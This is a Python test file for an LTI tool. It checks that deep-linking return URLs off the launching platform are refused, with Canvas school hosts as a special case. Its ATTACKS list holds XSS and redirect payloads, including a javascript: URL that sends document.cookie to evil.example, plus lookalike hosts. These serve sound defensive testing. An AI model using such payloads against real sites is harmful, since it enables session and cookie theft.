"""The deep-linking return URL through real launches: the tool auto-posts its signed response
only to an https address of the launching platform (http on loopback when allowed).

The attack: a platform's deep linking request names `javascript:...` (or a foreign site) as
deep_link_return_url; the tool put it in the auto-submitted form's action, so script ran in
the tool's origin with the instructor's session and could read the launch id.
"""
from __future__ import annotations

import pytest

from lti_tool.audit import EventType
from lti_tool.extensions import db
from lti_tool.models import AuditEvent, Platform
from tests.platform_kit import (LtiBrowser, TestPlatform, browser,  # noqa: F401  (fixtures)
                                parse_form, platform)
from tests.test_deep_linking import FORM, deep_link_launch

ATTACKS = [
    "javascript:fetch('https://evil.example/?'+document.cookie)",
    "JavaScript:alert(document.domain)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.example/collect",
    "https://evil.example/collect",
    "https://evil.example\\@127.0.0.1/dl-return",
    "//evil.example/collect",
    "https:evil.example/collect",
]


def form_page(browser, return_url):
    """Launch for deep linking with this return URL; return the deep-linking page."""
    location = deep_link_launch(browser, deep_link_return_url=return_url)
    return browser.session.get(browser.tool_url + location), location.split("launch=")[1]


def post_settings(browser, launch_id):
    return browser.session.post(browser.tool_url + "/lti/deep-link",
                                data=dict(FORM, launch=launch_id))


def deep_links_created(app) -> int:
    with app.app_context():
        return len(db.session.scalars(db.select(AuditEvent).filter_by(
            event_type=EventType.DEEP_LINK_CREATED)).all())


@pytest.mark.parametrize("return_url", ATTACKS)
def test_a_return_url_off_the_platform_is_refused_before_and_after_the_form(browser, app,
                                                                          return_url):
    page, launch_id = form_page(browser, return_url)
    assert page.status_code == 400
    assert "return address" in page.text and "Add to the course" not in page.text
    # Posting the settings anyway renders no auto-posting form and signs nothing.
    resp = post_settings(browser, launch_id)
    assert resp.status_code == 400
    assert 'name="JWT"' not in resp.text and "<form" not in resp.text
    assert deep_links_created(app) == 0
    with app.app_context():
        refusal = db.session.scalars(db.select(AuditEvent).filter_by(
            event_type=EventType.LAUNCH_REFUSED)).all()[-1]
        assert refusal.data["stage"] == "deep_link"
        assert refusal.data["code"] == "deep_link_return_url_refused"


def test_a_foreign_https_origin_tells_the_admin_how_to_allow_it(browser, app):
    page, _ = form_page(browser, "https://lms-cdn.example.edu/return")
    assert page.status_code == 400
    with app.app_context():
        platform_id = db.session.scalar(db.select(Platform.id))
    assert (f"flask --app wsgi platforms origins add {platform_id} "
            "https://lms-cdn.example.edu") in page.text


def test_a_return_url_on_the_platform_is_accepted(browser, app):
    return_url = f"{browser.platform.url}/mod/lti/contentitem_return.php?course=3&id=7"
    page, launch_id = form_page(browser, return_url)
    assert page.status_code == 200 and "Add to the course" in page.text
    resp = post_settings(browser, launch_id)
    assert resp.status_code == 200
    action, fields = parse_form(resp.text)
    assert action == return_url and fields["JWT"]
    assert deep_links_created(app) == 1


def test_an_origin_added_by_the_admin_is_accepted(browser, app, runner):
    with app.app_context():
        platform_id = db.session.scalar(db.select(Platform.id))
    result = runner.invoke(args=["platforms", "origins", "add", str(platform_id),
                                 "https://lms-cdn.example.edu"])
    assert result.exit_code == 0, result.output
    page, launch_id = form_page(browser, "https://lms-cdn.example.edu/return")
    assert page.status_code == 200
    action, _ = parse_form(post_settings(browser, launch_id).text)
    assert action == "https://lms-cdn.example.edu/return"


def test_plain_http_on_loopback_needs_the_development_setting(browser, app):
    app.config["OUTBOUND_ALLOW_LOOPBACK"] = False  # as in production
    # The test platform itself is on loopback: let the tool reach it as an intranet LMS.
    app.config["OUTBOUND_ALLOWED_NETWORKS"] = "127.0.0.0/8"
    page, _ = form_page(browser, f"{browser.platform.url}/dl-return")
    assert page.status_code == 400 and "not an https address" in page.text


# ---- Canvas: schools' pages live on <school>.instructure.com, the issuer is shared ----
@pytest.fixture
def canvas(app, live_server):
    plat = TestPlatform(client_id="10000000000001")
    plat.issuer = "https://canvas.instructure.com"  # signs its tokens as Canvas cloud does
    with app.app_context():
        plat.register_in_tool()
    yield LtiBrowser(live_server.url, plat)
    plat.stop()


@pytest.mark.parametrize("return_url,accepted", [
    ("https://school.instructure.com/courses/1/deep_linking_response?modal=true", True),
    ("https://sub.school.instructure.com/courses/1/deep_linking_response", True),
    ("http://school.instructure.com/courses/1/deep_linking_response", False),
    ("https://school.instructure.com:8443/courses/1/deep_linking_response", False),
    ("https://instructure.com.evil.example/courses/1", False),
    ("https://evilinstructure.com/courses/1", False),
])
def test_canvas_return_urls_on_school_hosts(canvas, return_url, accepted):
    page, _ = form_page(canvas, return_url)
    assert page.status_code == (200 if accepted else 400), page.text[:500]
